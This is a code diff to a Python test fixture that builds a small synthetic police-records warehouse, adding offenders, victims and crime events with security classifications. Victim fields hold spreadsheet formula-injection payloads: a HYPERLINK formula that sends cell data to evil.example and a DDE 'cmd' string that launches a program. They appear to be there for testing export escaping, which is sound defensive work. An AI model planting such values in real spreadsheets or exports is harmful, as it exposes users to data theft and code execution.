@@ -2,7 +2,11 @@
 classification, one serial offender known by nicknames across forces, victims, an associate,
 a shared phone, and a person held only under a restrictive marking.
 
-Tables are created from the model's table specs, so columns follow the documented contract.
+The assessed variant (``build_warehouse(path, assessed=True)``) adds two offenders whose
+priority score rests on records above their own (one's crime is marked higher than his
+record; the other's victim's age comes only from a more sensitive record of hers) and runs
+the assess stage over it. Tables are created from the model's table specs, so columns follow
+the documented contract.
 """
 
 from __future__ import annotations
@@ -231,6 +235,52 @@ OBJECTS: list[dict[str, Any]] = [
 ]
 
 
+#: The assessed variant's extra records. P5 (cambs, OFFICIAL) raped V3 on e5 (OFFICIAL); the
+#: crime records no age for her, so her age comes from her only dated record, which is
+#: OFFICIAL-SENSITIVE. P6's record is OFFICIAL, but the crime it names (e6) and its victim
+#: are OFFICIAL-SENSITIVE. V3's records carry values a spreadsheet would run as formulas.
+ASSESSED_MENTIONS: list[dict[str, Any]] = [
+    _mention("mention-000010", "P5", "cambs", "P", "OFFICIAL", "KARL", "HOLT", "suspect", "e5",
+             dob=dt.date(1985, 3, 3), dob_year=1985, gender="M"),
+    _mention("mention-000011", "V3", "cambs", "P", "OFFICIAL", "ROSE", "WREN", "victim", "e5",
+             gender="F", address_raw='=HYPERLINK("http://evil.example/?"&A1,"open")',
+             email="@evil.example"),
+    _mention("mention-000012", "V3", "cambs", "P", "OFFICIAL-SENSITIVE", "ROSE", "WREN",
+             "missing", None, dob=dt.date(2009, 6, 6), dob_year=2009, gender="F",
+             address_raw="-2+3+cmd|' /C calc'!A0", cro_number="+1-1"),
+    _mention("mention-000013", "P6", "essex", "P", "OFFICIAL", "DEAN", "MOSS", "suspect", "e6",
+             dob=dt.date(1979, 9, 9), dob_year=1979, gender="M"),
+    _mention("mention-000014", "V4", "essex", "P", "OFFICIAL-SENSITIVE", "EVE", "STONE",
+             "victim", "e6", gender="F", age_at_event=30),
+]  # fmt: skip
+ASSESSED_EVENTS: list[dict[str, Any]] = [
+    {
+        "event_id": "e5",
+        "event_type": "crime",
+        "reference": "CAM/5",
+        "force": "cambs",
+        "handling_code": "P",
+        "classification": "OFFICIAL",
+        "occurred_from": dt.date(2023, 8, 8),
+        "offence_code": "19C",
+        "oic": "CAMBS1005",
+        "lpc": "Fenland",
+    },
+    {
+        "event_id": "e6",
+        "event_type": "crime",
+        "reference": "ESX/6",
+        "force": "essex",
+        "handling_code": "P",
+        "classification": "OFFICIAL-SENSITIVE",
+        "occurred_from": dt.date(2023, 7, 7),
+        "offence_code": "19C",
+        "oic": "ESSEX1006",
+        "lpc": "North LPA",
+    },
+]
+
+
 def _create(con: duckdb.DuckDBPyConnection, name: str, rows: list[dict[str, Any]]) -> None:
     spec = TABLES[name]
     cols = ", ".join(f'"{c.name}" {DUCK_TYPES[c.type]}' for c in spec.columns)
@@ -250,19 +300,21 @@ def _create(con: duckdb.DuckDBPyConnection, name: str, rows: list[dict[str, Any]
         con.execute(f"INSERT INTO {name} VALUES ({placeholders})", [base.get(c) for c in names])
 
 
-def build_warehouse(path: Path) -> Path:
-    """Write the tiny warehouse to ``path`` and return it."""
+def build_warehouse(path: Path, assessed: bool = False) -> Path:
+    """Write the tiny warehouse to ``path`` and return it (``assessed``: with the extra
+    offenders and the assess stage's tables)."""
+    mentions = MENTIONS + (ASSESSED_MENTIONS if assessed else [])
     con = duckdb.connect(str(path))
     _create(
         con,
         "staged_person_mention",
-        [{k: v for k, v in m.items() if k != "person_id"} for m in MENTIONS],
+        [{k: v for k, v in m.items() if k != "person_id"} for m in mentions],
     )
-    _create(con, "staged_event", EVENTS)
+    _create(con, "staged_event", EVENTS + (ASSESSED_EVENTS if assessed else []))
     _create(con, "staged_object", OBJECTS)
     _create(con, "staged_location", [])
     sizes: dict[str, int] = {}
-    for m in MENTIONS:
+    for m in mentions:
         sizes[m["person_id"]] = sizes.get(m["person_id"], 0) + 1
     _create(
         con,
@@ -274,7 +326,7 @@ def build_warehouse(path: Path) -> Path:
                 "cluster_size": sizes[m["person_id"]],
                 "by_decision": False,
             }
-            for m in MENTIONS
+            for m in mentions
         ],
     )
     _create(
@@ -297,6 +349,10 @@ def build_warehouse(path: Path) -> Path:
             },
         ],
     )
+    if assessed:
+        from toex.assess.stage import run_assess
+
+        run_assess(con)
     con.close()
     return path
 
